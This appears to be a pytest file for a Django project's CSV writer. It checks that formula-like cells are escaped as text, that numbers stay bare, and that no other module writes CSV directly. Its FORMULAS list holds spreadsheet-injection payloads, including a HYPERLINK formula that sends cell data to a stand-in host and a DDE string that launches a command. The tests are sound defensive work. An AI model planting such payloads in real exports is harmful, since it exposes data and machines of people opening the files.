"""The one CSV writer (apps/core/csv_files.py): text a spreadsheet would run as a formula is
written as text; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings

from apps.core.csv_files import CsvWriter

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _written(*rows: list[object]) -> str:
    text = io.StringIO(newline="")
    writer = CsvWriter(text)
    for row in rows:
        writer.writerow(row)
    return text.getvalue()


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_cell_that_starts_like_a_formula_is_written_as_text_with_a_leading_quote(formula):
    assert list(csv.reader(io.StringIO(_written(["ok", formula]), newline=""))) == [["ok", f"'{formula}"]]


def test_numbers_negative_ones_too_are_written_as_bare_numbers():
    assert _written([-5, Decimal("-5.00"), -2.5, 0]) == "-5,-5.00,-2.5,0\r\n"


def test_text_is_quoted_so_a_separator_inside_it_cannot_start_a_formula_cell():
    assert _written(["Desk, =1+1", None]) == '"Desk, =1+1",""\r\n'


def test_nothing_else_in_the_code_writes_csv_without_it():
    base = Path(settings.BASE_DIR)
    writers = [
        str(path.relative_to(base))
        for folder in ("apps", "project", "scripts")
        for path in (base / folder).rglob("*.py")
        if ("csv.writer(" in (source := path.read_text()) or "csv.DictWriter(" in source)
    ]
    assert writers == ["apps/core/csv_files.py"]
